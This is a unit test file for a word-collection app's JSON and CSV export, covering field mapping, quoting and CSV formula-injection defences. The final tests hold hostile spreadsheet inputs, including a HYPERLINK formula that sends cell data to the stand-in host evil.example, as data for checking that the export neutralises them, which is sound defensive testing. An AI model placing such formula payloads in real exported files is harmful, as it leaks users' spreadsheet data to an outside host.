import { expect, it } from 'vitest';
import { wordsAsCsv, wordsAsJson } from './export-words.ts';
import { collectRecord, noon } from '../outbox/testing.ts';

const context = {
  sentence: 'It was “pure”, serendipity.',
  title: 'A "diary"',
  url: 'https://diary.example/?a=1,2',
  language: 'en',
};
const word = collectRecord('serendipity', {
  context,
  spec: { term: 'serendipity', language: 'LANGUAGE_ENGLISH', tags: ['a', 'b'], notes: ['n'] },
});

it('writes JSON that parses to the same words', () => {
  expect(JSON.parse(wordsAsJson([word, collectRecord('bare')]))).toEqual([
    {
      ...{ term: 'serendipity', language: 'LANGUAGE_ENGLISH', tags: ['a', 'b'], notes: ['n'] },
      ...{ sentence: context.sentence, title: context.title, address: context.url },
      collected_at: new Date(noon).toISOString(),
    },
    {
      ...{ term: 'bare', language: 'LANGUAGE_ENGLISH', tags: [], notes: [] },
      ...{ sentence: '', title: '', address: '' },
      collected_at: new Date(noon).toISOString(),
    },
  ]);
});

it('writes a word of an imported list like one that was collected, without a time', () => {
  const listed = {
    ...{ term: 'sonder', language: 'LANGUAGE_ENGLISH', tags: ['a'], notes: ['n'] },
    ...{ sentence: 'A sonder.', title: 'T', url: 'https://a.example/' },
  };
  const { url: address, ...same } = listed;
  expect(JSON.parse(wordsAsJson([listed]))).toEqual([{ ...same, address, collected_at: '' }]);
  expect(wordsAsJson([])).toBe('[]\n');
  expect(wordsAsJson([listed])).toContain('\n  {\n    "term": "sonder"');
});

it('names no language where the word has none', () => {
  const bare = collectRecord('bare', { spec: { term: 'bare' } });
  expect(JSON.parse(wordsAsJson([bare]))).toMatchObject([{ term: 'bare', language: '' }]);
});

it('writes CSV that keeps quotes, commas and line ends inside their cell', () => {
  expect(wordsAsCsv([word])).toBe(
    '\uFEFF"term","language","tags","notes","sentence","title","address","collected_at"\r\n' +
      '"serendipity","LANGUAGE_ENGLISH","a\nb","n","It was “pure”, serendipity.",' +
      '"A ""diary""","https://diary.example/?a=1,2","2026-01-01T12:00:00.000Z"\r\n',
  );
});

it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\u00A0=1', '＝1'])(
  'S26 no cell of the CSV begins a formula: %j',
  (term) => {
    const [, row = ''] = wordsAsCsv([collectRecord(term)]).split('\r\n"');
    expect(row.startsWith(`'${term}`)).toBe(true);
  },
);

it('S26 no column of the CSV lets a text from a page begin a formula', () => {
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
  const hostile = collectRecord(formula, {
    spec: { term: formula, language: formula, tags: [formula], notes: [formula] },
    context: { sentence: formula, title: formula, url: formula, language: formula },
  });
  const csv = wordsAsCsv([hostile]);
  expect(csv.split("'=HYPERLINK").length - 1).toBe(7);
  expect(csv).not.toMatch(/"\s*=/u);
  expect(wordsAsJson([hostile])).toContain(JSON.stringify(formula));
});
